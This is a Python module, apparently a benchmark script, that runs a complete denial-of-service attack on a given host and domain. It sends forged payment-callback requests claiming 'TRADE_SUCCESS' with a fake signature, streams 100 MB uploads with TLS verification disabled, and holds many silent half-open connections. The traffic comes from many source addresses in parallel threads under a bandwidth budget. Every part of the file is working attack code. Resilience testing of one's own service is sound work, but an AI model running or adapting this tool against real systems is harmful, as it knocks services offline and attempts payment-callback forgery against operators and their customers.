"""An attack on a site: forged callbacks, large bodies, uploads, and connections that say nothing.

``python -m benchmarks.attack HOST DOMAIN UUID SECONDS MEGABITS`` reads its own addresses from
standard input, and prints what it sent. It is a process of its own, so that it delays nobody here.
"""

import contextlib
import json
import socket
import ssl
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable

HALF_OPEN = 50  # connections of each address
LARGE = b"x" * 60_000
UPLOADS, CALLERS = 4, 32  # at a time


class Attack:
    """What is attacked, from where, and what was sent so far."""

    def __init__(self, host: str, domain: str, uuid: str, seconds: float, megabits: float) -> None:
        self.host, self.domain = host, domain
        self.path = f"/api/payment/notify/{uuid}"
        self.until = time.monotonic() + seconds
        self.begun, self.budget = time.monotonic(), megabits * 125_000
        self.sources = sys.stdin.read().split()
        self.sent: Counter[str] = Counter()
        self.lock = threading.Lock()

    def is_over(self) -> bool:
        """Whether the time is."""
        return time.monotonic() > self.until

    def spend(self, kind: str, size: int) -> None:
        """Count bytes, and wait until the line has taken them."""
        with self.lock:
            self.sent[kind] += 1
            self.sent["bytes"] += size
            ahead = self.sent["bytes"] / self.budget - (time.monotonic() - self.begun)
        if ahead > 0:
            time.sleep(min(ahead, 1))

    def callbacks(self, sources: list[str]) -> None:
        """Forged callbacks from some addresses in turn; every tenth is large."""
        number = 0
        while not self.is_over():
            for source in sources:
                number += 1
                with contextlib.suppress(OSError):
                    self._volley(source, large=number % 10 == 0)

    def _volley(self, source: str, *, large: bool) -> None:
        head = f"Host: {self.domain}\r\nUser-Agent: {chr(1) * 150}\r\n"
        query = "out_trade_no=1&trade_status=TRADE_SUCCESS&money=1&sign=x"
        call = f"GET {self.path}?{query} HTTP/1.1\r\n{head}\r\n".encode() * 20
        if large:
            form = f"Content-Type: text/plain\r\nContent-Length: {len(LARGE)}\r\n"
            call += f"POST {self.path} HTTP/1.1\r\n{head}{form}\r\n".encode() + LARGE
        with socket.create_connection((self.host, 80), 3, (source, 0)) as way:
            way.sendall(call)
            self.spend("callbacks", len(call))
            way.settimeout(0.5)
            with contextlib.suppress(OSError):
                way.recv(65536)

    def uploads(self, sources: list[str]) -> None:
        """Bodies of 100 MB before anybody has seen a key."""
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        head = f"Host: {self.domain}\r\nContent-Length: 100000000\r\n\r\n"
        while not self.is_over():
            with contextlib.suppress(OSError):
                way = socket.create_connection((self.host, 443), 3, (sources[0], 0))
                with context.wrap_socket(way, server_hostname=self.domain) as upload:
                    upload.sendall(f"POST /v1/files HTTP/1.1\r\n{head}".encode())
                    while not self.is_over():
                        upload.sendall(LARGE)
                        self.spend("uploads", len(LARGE))

    def half_open(self, sources: list[str]) -> None:
        """Connections on which nothing is said, opened anew as they are closed."""
        held: dict[str, list[socket.socket]] = {source: [] for source in sources}
        while not self.is_over():
            for source, there in held.items():
                there[:] = [each for each in there if not _is_closed(each)]
                while len(there) < HALF_OPEN:
                    there.append(_opened(self.host, source))
                    self.sent["connections"] += 1
            time.sleep(1)


def _opened(host: str, source: str) -> socket.socket:
    made = socket.socket()
    made.setblocking(False)
    made.bind((source, 0))
    made.connect_ex((host, 443))
    return made


def _is_closed(made: socket.socket) -> bool:
    try:
        is_closed = made.recv(1) == b""
    except BlockingIOError:
        return False
    except OSError:
        is_closed = True
    if is_closed:
        made.close()
    return is_closed


def main() -> None:
    """All of it at once, until the time is over."""
    host, domain, uuid, seconds, megabits = sys.argv[1:]
    attack = Attack(host, domain, uuid, float(seconds), float(megabits))
    kinds: list[tuple[Callable[[list[str]], None], list[str]]] = [
        (attack.half_open, attack.sources),
        *((attack.callbacks, attack.sources[n::CALLERS]) for n in range(CALLERS)),
        *((attack.uploads, attack.sources[n : n + 1]) for n in range(UPLOADS)),
    ]
    threads = [threading.Thread(target=kind, args=(own,)) for kind, own in kinds]
    for each in threads:
        each.start()
    for each in threads:
        each.join()
    print(json.dumps(attack.sent))


if __name__ == "__main__":
    main()
